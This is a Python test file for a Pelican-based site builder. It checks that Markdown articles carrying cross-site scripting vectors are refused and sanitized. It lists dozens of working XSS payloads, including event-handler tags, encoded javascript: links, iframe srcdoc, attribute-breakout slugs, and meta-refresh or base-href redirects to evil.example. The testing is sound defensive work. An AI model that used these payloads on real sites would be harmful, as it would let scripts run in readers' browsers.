"""The text cannot run script: the sources check refuses HTML off the allowlist, and the
reader sanitizes what it converts, so nothing gets through even without the check.

The vectors: those of issue 26, and more from the OWASP XSS Filter Evasion Cheat
Sheet and PortSwigger's XSS cheat sheet (case, entities, control characters in a
scheme, parser confusion, foreign content, data: URLs, Markdown's own syntax).
"""

import re
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from pelican.readers import MarkdownReader

import sitekit.runner as site_build
from sitekit.core.sources import read_source
from sitekit.devtools import browser
from sitekit.markdown import check, sanitize
from sitekit.markdown.reader import Converter
from tests.conftest import CHOSEN, REVIEWED, RICH_ARTICLE
from tests.support.build import run_build, snapshot
from tests.support.pages import ROOT
from tests.test_markdown_guards import TRICKY

# (name, Markdown text below "Some text." on line 6, the line the problem names)
VECTORS = [
    # Issue 26: each built with exit 0 before.
    ("svg onload", "<svg/onload=alert(1)>", 8),
    ("details ontoggle", "<details/open/ontoggle=alert(1)>", 8),
    ("input autofocus onfocus", "<input/autofocus/onfocus=alert(1)>", 8),
    ("comment confusion", "<!--><img src=x onerror=alert(1)>-->", 8),
    ("javascript link", "[x](javascript:alert(1))", 8),
    ("object data", "<object data=javascript:alert(1)>", 8),
    ("button formaction", "<button formaction=javascript:alert(1)>x</button>", 8),
    ("style element", "<style>body{display:none}</style>", 8),
    ("meta refresh", '<meta http-equiv=refresh content="0;url=https://evil.example/">', 8),
    # Case variants.
    ("upper-case script", "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>", 8),
    ("mixed-case script", "<ScRiPt>alert(1)</sCrIpT>", 8),
    ("mixed-case scheme", "[x](JaVaScRiPt:alert(1))", 8),
    # Entities and characters a browser drops from a scheme.
    ("decimal entity", "[x](&#106;avascript:alert(1))", 8),
    ("hex entities", "[x](&#x6A;&#x61;&#x76;&#x61;script:alert(1))", 8),
    ("named colon", '<a href="javascript&colon;alert(1)">x</a>', 8),
    ("tab in scheme", '<a href="jav&#x09;ascript:alert(1)">x</a>', 8),
    ("newline in scheme", '<a href="jav&#x0A;ascript:alert(1)">x</a>', 8),
    ("spaces before scheme", '<a href="  javascript:alert(1)">x</a>', 8),
    ("control character before scheme", '<a href="&#14;javascript:alert(1)">x</a>', 8),
    ("vbscript", '<a href="vbscript:msgbox(1)">x</a>', 8),
    ("colon as a reference", "[x](javascript&#58;alert(1))", 8),
    ("newline in a link", "[x](java\nscript:alert(1))", 9),
    ("address in angle brackets", "[x](<javascript:alert(1)>)", 8),
    # Event handlers where Markdown puts the HTML.
    ("img onerror", "<img src=x onerror=alert(1)>", 8),
    ("img onerror in a table", "| a | b |\n|---|---|\n| 1 | <img src=x onerror=alert(1)> |", 10),
    ("link in a heading", '## <a href="javascript:alert(1)">x</a>', 8),
    ("body onload", "<body onload=alert(1)>", 8),
    ("marquee onstart", "<marquee onstart=alert(1)>x</marquee>", 8),
    ("video source onerror", "<video><source onerror=alert(1)></video>", 8),
    ("attribute list", 'A paragraph.\n{: onclick="alert(1)" }', 9),
    ("fenced code attribute list", "```{ .python onmouseover=alert(1) }\ncode\n```", 8),
    # Foreign content, frames, forms and the document's base.
    ("math xlink", '<math><mi xlink:href="javascript:alert(1)">x</mi></math>', 8),
    ("svg animate onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", 8),
    ("iframe srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>', 8),
    ("base href", '<base href="https://evil.example/">', 8),
    ("link import", '<link rel=import href="https://evil.example/x.html">', 8),
    ("form button", "<form><button formaction=javascript:alert(1)>x</button></form>", 8),
    ("embed", '<embed src="data:text/html,<script>alert(1)</script>">', 8),
    ("noscript confusion", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', 8),
    ("template", "<template><img src=x onerror=alert(1)></template>", 8),
    # data: URLs, and a reference-style link (the address is on its own line).
    ("data image", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)", 8),
    ("data link", '<a href="data:text/html,<script>alert(1)</script>">x</a>', 8),
    ("reference link", "[x][evil]\n\n[evil]: javascript:alert(1)", 10),
    ("autolink", "<javascript:alert(1)>", 8),
    # Styles that restyle or cover the page.
    ("style attribute", '<a href="#" style="position:fixed;inset:0">x</a>', 8),
    ("css url", '<p style="background:url(javascript:alert(1))">x</p>', 8),
]
# (name, the Summary field): the problem names its line, 4.
SUMMARY_VECTORS = [
    ("summary script", "<script>alert(1)</script>"),
    ("summary javascript link", "[x](javascript:alert(1))"),
    ("summary img onerror", "<img src=x onerror=alert(1)>"),
    ("summary svg onload", "<svg/onload=alert(1)>"),
    # A field's further lines (indented): the reader converts them as lines, not as one.
    ("summary attribute list", 'A summary.\n    {: onclick="alert(1)" }'),
    ("summary reference link", "[A summary][r].\n    [r]: javascript:alert(1)"),
]


def article(body="", summary="A summary.", title="Vector"):
    return (
        f"Title: {title}\nDate: 2026-11-20\nCategory: Care\nSummary: {summary}\n\n"
        f"Some text.\n\n{body}\n"
    )


def file_name(name):
    return re.sub(r"\W+", "-", name) + ".md"


def every_vector():
    """File name -> the article, and the line its problem names."""
    files = {file_name(n): (article(v, title=n), line) for n, v, line in VECTORS}
    files |= {file_name(n): (article(summary=v, title=n), 4) for n, v in SUMMARY_VECTORS}
    return files


def local_settings():
    """The local settings, with the Markdown extensions listed as Pelican lists them."""
    settings = site_build.load_settings(site_build.LOCAL_SETTINGS)[0]
    MarkdownReader(settings)
    return settings


@pytest.fixture(scope="module")
def refused(tmp_path_factory):
    """One build of a good article and every vector, the previous output kept."""
    root = tmp_path_factory.mktemp("vectors")
    articles = root / "content" / "articles"
    articles.mkdir(parents=True)
    (articles / "good.md").write_text(article(title="Good"), "utf-8")
    first = run_build("--content", root / "content", output=root / "output")
    assert first.code == 0, first.stderr
    before = snapshot(root / "output")
    for name, (text, _) in every_vector().items():
        (articles / name).write_text(text, "utf-8")
    run = run_build("--content", root / "content", output=root / "output")
    assert snapshot(root / "output") == before, "a refused build changed the output"
    return run


@pytest.mark.parametrize(
    "name, line",
    [(file_name(n), line) for n, _, line in VECTORS]
    + [(file_name(n), 4) for n, _ in SUMMARY_VECTORS],
    ids=[n for n, _, _ in VECTORS] + [n for n, _ in SUMMARY_VECTORS],
)
def test_the_check_refuses_each_vector_in_one_line_naming_file_and_line(refused, name, line):
    assert refused.code == 1
    assert "Traceback" not in refused.stderr
    errors = [e for e in refused.stderr.splitlines() if f"/{name}:" in e]
    assert len(errors) == 1, refused.stderr
    assert f"/{name}:{line}: " in errors[0]
    assert "is not allowed in " in errors[0] and errors[0].endswith(".")


def test_a_carriage_return_ends_a_line_for_the_check_as_for_the_reader(tmp_path):
    """Pelican reads a lone carriage return as a line's end (Python's universal newlines):
    after `Tags: a\\r\\r` the text starts, and the check reads it there too."""
    articles = tmp_path / "content" / "articles"
    articles.mkdir(parents=True)
    text = article(title="CR").replace(
        "Summary: A summary.\n", "Summary: A summary.\nTags: a\r\r<svg/onload=alert(1)>\n"
    )
    (articles / "cr.md").write_bytes(text.encode())
    run = run_build("--content", tmp_path / "content", output=tmp_path / "output")
    assert run.code == 1, run.stderr
    assert "cr.md:7: <svg onload=…> is not allowed in an article" in run.stderr


BREAKOUT = 'a/"onmouseover="alert(1)"x="'
# Published at /b-x, which the link check then finds where the href's quote ends it.
B_X = article(title="C").replace(
    "Summary: A summary.\n", "Summary: A summary.\nSave_as: b-x\nURL: b-x\n"
)


@pytest.mark.parametrize(
    "fields, lines, words, others",
    [
        (f"Slug: {BREAKOUT}\n", [5], "may hold only letters", {}),
        (
            f"URL: {BREAKOUT}/\nSave_as: {BREAKOUT}/index.html\n",
            [5, 6],
            "may hold only letters",
            {},
        ),
        # Pelican's address of an article in another language: {slug}-{lang}.html.
        ('Lang: x"onmouseover="alert(1)"y="\n', [5], "is not a language code", {"c.md": B_X}),
    ],
    ids=["slug", "url and save_as", "lang"],
)
def test_an_address_field_cannot_close_the_attribute_of_a_link_to_it(
    tmp_path, fields, lines, words, others
):
    """Pelican writes the address of the article a `{filename}` link names into the
    sanitized text as it is: a quote in a Slug, URL or Lang would end the href there and
    add a handler. The link check reads the href up to that quote, which is published."""
    articles = tmp_path / "content" / "articles"
    articles.mkdir(parents=True)
    (articles / "a.md").write_text(article("[the other]({filename}b.md)", title="A"), "utf-8")
    b = article(title="B").replace("Summary: A summary.\n", "Summary: A summary.\n" + fields)
    (articles / "b.md").write_text(b, "utf-8")
    for name, text in others.items():
        (articles / name).write_text(text, "utf-8")
    run = run_build("--content", tmp_path / "content", output=tmp_path / "output")
    assert run.code == 1, run.stderr
    errors = [e for e in run.stderr.splitlines() if e.startswith("error: ")]
    assert [e.split("/b.md:", 1)[1].split(":")[0] for e in errors] == [str(n) for n in lines]
    assert all(words in e for e in errors), errors


def test_every_problem_is_a_vector(refused):
    errors = [e for e in refused.stderr.splitlines() if e.startswith("error: ")]
    assert len(errors) == len(every_vector()), refused.stderr


def test_messages_say_what_to_do():
    settings = local_settings()
    said = {
        text: [check.describe(r, "in an article") for r in check.refused_html(text, settings)]
        for text in ("<svg/onload=alert(1)>", "[x](javascript:alert(1))", "A.\n{: onclick=x }")
    }
    assert said["<svg/onload=alert(1)>"] == [
        "<svg onload=…> is not allowed in an article: the text may hold Markdown and a few "
        "plain HTML elements such as <b> or <sub>, nothing that could run a script, load "
        "another page, send readers elsewhere or restyle the page. Remove it."
    ]
    assert said["[x](javascript:alert(1))"] == [
        "the link address 'javascript:alert(1)' is not allowed in an article: an address "
        "starts with http:// or https://, mailto: for e-mail, or names a page of this site. "
        "Correct the address, or remove the link."
    ]
    assert said["A.\n{: onclick=x }"] == [
        "<p onclick=…> is not allowed in an article: it would run a script. Remove onclick."
    ]


def test_what_the_sanitizer_would_remove_for_another_reason_is_refused_too():
    """An address nh3 cannot read (a space in the host) is dropped by it, not by our list:
    the check compares what the sanitizer keeps with the text, and refuses the difference."""
    settings = local_settings()
    text = '<a href="https://exa mple.org/">x</a>'
    assert [check.describe(r, "in an article") for r in check.refused_html(text, settings)] == [
        "the address 'https://exa mple.org/' in an article cannot be read as a web address. "
        "Correct it."
    ]


def test_a_style_attribute_names_the_fix():
    """No cell may carry a style, not even an alignment (which Markdown writes as a class,
    sitekit.markdown.tables): the production policy blocks every style attribute."""
    settings = local_settings()
    text = '<table><tr><td style="text-align: center;">x</td></tr></table>'
    assert [check.describe(r, "in an article") for r in check.refused_html(text, settings)] == [
        'style="…" on <td> is not allowed in an article: the site\'s security policy blocks '
        "styles written in a text, so readers would not see them. Remove it: use Markdown, or "
        "ask for a class in the theme."
    ]


def test_the_quick_test_renders_every_text_that_may_hold_html():
    """Text without `<`, `{` (but for `{filename}` links) or a link with a scheme-like word
    or a character reference is not even rendered; every vector is."""
    for _, text, _ in VECTORS:
        assert check.may_hold_html(text), text
    for _, text in SUMMARY_VECTORS:
        assert check.may_hold_html(text), text
    plain = [
        "Plain prose, *emphasis*, `code`, lists:\n\n- one\n- two",
        "Note: a colon in prose, with no link.",
        "[A page]({filename}/pages/about.md), [a site](https://example.org/a?b=c#d), "
        "![a photo]({static}/images/a.jpg) and [mail](mailto:a@example.org).",
    ]
    assert [check.may_hold_html(text) for text in plain] == [False, False, False]


# What the site and the tests write: Markdown's whole syntax and a little plain HTML.
ALLOWED = [
    *TRICKY,
    RICH_ARTICLE.split("\n\n", 1)[1],
    REVIEWED.split("\n\n", 1)[1],
    CHOSEN.split("\n\n", 1)[1],
    "H<sub>2</sub>O, <kbd>Ctrl</kbd>, <b>bold</b>, <i>i</i>, <del>a</del> <ins>b</ins>.",
    "An editor's note <!-- not for readers --> in the text.",
    "[TOC]\n\n## One\n\n## Two",
    "1. one\n2. two\n\n| left | centre | right |\n|:--|:-:|--:|\n| a | b | c |",
    "[mail](mailto:a@example.org), [site](https://example.org/), [rel](../x/), [top](#top)",
    "Term\n:   Definition\n\n*[HTML]: Hyper Text Markup Language\n\nHTML.",
]
CONTENT = sorted((ROOT / "content").glob("**/*.md"))


@pytest.mark.parametrize("text", ALLOWED, ids=lambda t: t[:24])
def test_after_a_clean_check_the_sanitizer_changes_nothing(text):
    settings = local_settings()
    assert check.refused_html(text, settings) == []
    html = check.rendered(text, settings)
    assert sanitize.normalised(sanitize.clean(html)) == sanitize.normalised(html)


@pytest.mark.parametrize("path", CONTENT, ids=lambda p: p.name)
def test_the_sites_own_text_passes_and_keeps_its_bytes(path):
    """The check renders the text as the reader does; the reader's HTML is the same bytes
    as before the sanitizer, so the published site did not change."""
    settings = local_settings()
    source = read_source(path, path.name)
    assert check.check_body(source, ROOT / "content", settings) == []
    assert check.refused_html(source.value("summary"), settings, notes=False) == []
    html = check.rendered(source.body, settings)
    assert Converter(settings).convert(str(path)).content == sanitize.clean(html) == html


def test_the_reader_sanitizes_text_summary_and_contents(tmp_path):
    settings = local_settings()
    path = tmp_path / "a.md"
    path.write_text(
        article(
            "## One <img src=x onerror=alert(1)>\n\n## Two\n\n## Three\n\n<script>alert(1)</script>",
            summary="<b onclick=alert(1)>Hi</b>",
        ),
        "utf-8",
    )
    converted = Converter(settings).convert(str(path))
    for html in (converted.content, converted.formatted["summary"], converted.toc):
        assert "alert" not in html and "onclick" not in html, html
    assert '<img src="x">' in converted.content
    assert converted.formatted["summary"] == "<p><b>Hi</b></p>"


def test_a_feed_carries_sanitized_html(tmp_path, monkeypatch):
    """The production build, with the sources check switched off: the feed item of an
    article written to run script holds its text and nothing that runs."""
    monkeypatch.setattr(site_build, "validate", lambda settings, shown: [])
    articles = tmp_path / "content" / "articles"
    articles.mkdir(parents=True)
    body = (
        "<svg/onload=alert(1)> [a link](javascript:alert(2)) <script>alert(3)</script>\n\n"
        '<img src="https://images.example.net/p.png" alt="p" onerror=alert(4)>\n\n'
        '<meta http-equiv=refresh content="0;url=https://evil.example/">'
    )
    (articles / "a.md").write_text(
        article(body, summary="<b onclick=alert(5)>Bold</b> summary"), "utf-8"
    )
    run = run_build("--content", tmp_path / "content", output=tmp_path / "output", production=True)
    assert run.code == 0, run.stderr
    for feed in ("all.atom.xml", "all.rss.xml"):
        texts = [
            element.text or ""
            for element in ET.parse(tmp_path / "output" / "feeds" / feed).iter()
            if element.tag.rsplit("}", 1)[-1] in ("content", "summary", "description")
        ]
        assert any("Some text." in text for text in texts), feed
        joined = "\n".join(texts)
        if feed == "all.atom.xml":  # RSS carries the text alone, Atom the summary too
            assert "<p><b>Bold</b> summary</p>" in joined, joined
        for bad in ("alert", "onload", "onerror", "onclick", "javascript", "<meta", "<svg"):
            assert bad not in joined, (feed, bad, joined)
        assert '<img src="https://images.example.net/p.png" alt="p">' in joined
    page = (tmp_path / "output" / "vector" / "index.html").read_text("utf-8")
    assert "alert" not in page


def rendered_vectors(folder: Path) -> dict[str, str]:
    """Each vector through the reader (and so the sanitizer) alone, with no check: name ->
    a page of its own that holds the text and the summary, as the site's pages hold them."""
    settings = local_settings()
    converter = Converter(settings)
    folder.mkdir(parents=True, exist_ok=True)
    pages = {}
    for name, (text, _) in every_vector().items():
        source = folder / name
        source.write_text(text, "utf-8")
        converted = converter.convert(str(source))
        page = name.removesuffix(".md") + ".html"
        (folder / page).write_text(
            "<!doctype html><html lang=en><head><meta charset=utf-8><title>v</title></head>"
            f"<body><main>{converted.formatted['summary']}{converted.content}</main></body></html>",
            "utf-8",
        )
        pages[name] = page
    return pages


@pytest.mark.browser
def test_no_vector_runs_script_or_leaves_the_page_without_any_policy(tmp_path, chromium):
    """Every vector, sanitized by the reader without the check, served with no CSP at all,
    each page in its own frame: no dialog, no navigation, no script error, no other host."""
    pages = rendered_vectors(tmp_path / "site")
    frames = "".join(f'<iframe src="/{page}" title="{page}"></iframe>' for page in pages.values())
    (tmp_path / "site" / "index.html").write_text(
        f"<!doctype html><html lang=en><title>all</title>{frames}</html>", "utf-8"
    )
    dialogs, navigations, errors, hosts = [], [], [], set()
    with browser.serving(tmp_path / "site") as url:
        here = url.split("/")[2]
        context = chromium.new_context()
        # Recorded below, and never sent: no test touches the internet.
        context.route(
            "**/*",
            lambda route: (
                route.continue_() if route.request.url.split("/")[2] == here else route.abort()
            ),
        )
        page = context.new_page()
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        page.on("pageerror", lambda error: errors.append(str(error)))
        page.on(
            "console",
            lambda message: (
                message.type == "error"
                and "Failed to load resource" not in message.text
                and errors.append(message.text)
            ),
        )
        page.on("request", lambda request: hosts.add(request.url.split("/")[2]))
        # Every document a frame loads or starts to load, a refresh or a followed link too.
        page.on(
            "request",
            lambda request: request.is_navigation_request() and navigations.append(request.url),
        )
        page.goto(url + "/")
        page.wait_for_timeout(500)  # timers, animations, focus, a refresh
        loaded = sorted(frame.url.rsplit("/", 1)[-1] for frame in page.frames[1:])
        context.close()
    assert dialogs == []
    assert sorted(navigations) == sorted([url + "/", *(f"{url}/{p}" for p in pages.values())])
    assert errors == []
    assert hosts == {here}
    assert loaded == sorted(pages.values())
